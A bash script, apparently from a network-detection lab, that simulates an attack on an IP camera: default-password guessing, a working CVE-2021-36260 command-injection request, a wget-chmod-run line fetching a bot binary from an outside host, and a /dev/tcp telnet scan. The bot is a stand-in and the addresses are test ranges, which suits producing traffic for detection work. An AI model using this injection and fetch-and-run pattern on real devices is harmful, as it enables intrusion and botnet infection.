# A camera on the Internet: factory password, then CVE-2021-36260 (command in the language element), a bot fetched over HTTP
# and a hunt for telnet outside. Only packets can show it.
# shellcheck shell=bash

attack_camera() {
  local password agent='Mozilla/5.0 (compatible)' camera=http://10.10.40.11
  serve_bot
  on attacker-cam curl -s -A "$agent" -o /dev/null $camera/
  for password in admin 888888 123456 12345; do
    on attacker-cam curl -s -A "$agent" -u "admin:$password" -o /dev/null $camera/ISAPI/System/deviceInfo
  done
  inject 'id>/tmp/webLib/x'
  on attacker-cam curl -s -A "$agent" $camera/x
  inject 'wget -q -O /tmp/arm7 http://198.51.100.91/bins/arm7;chmod +x /tmp/arm7;/tmp/arm7'
  inject '(for i in $(seq 1 60);do (timeout 1 bash -c "exec 3<>/dev/tcp/203.0.113.$((i+150))/23" 2>/dev/null)& sleep 0.1;done;wait)'
}

serve_bot() {
  on attacker-cam bash -c 'mkdir -p /srv/kho/bins && cp /bin/true /srv/kho/bins/arm7'
  spawn attacker-cam python3 -m http.server --directory /srv/kho 80
  wait_port attacker-cam 80
}

inject() {
  on attacker-cam curl -s -m 30 -A "$agent" -X PUT -H 'Content-Type: application/x-www-form-urlencoded; charset=UTF-8' -o /dev/null \
    --data "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>\$($1)</language>" $camera/SDK/webLanguage
}
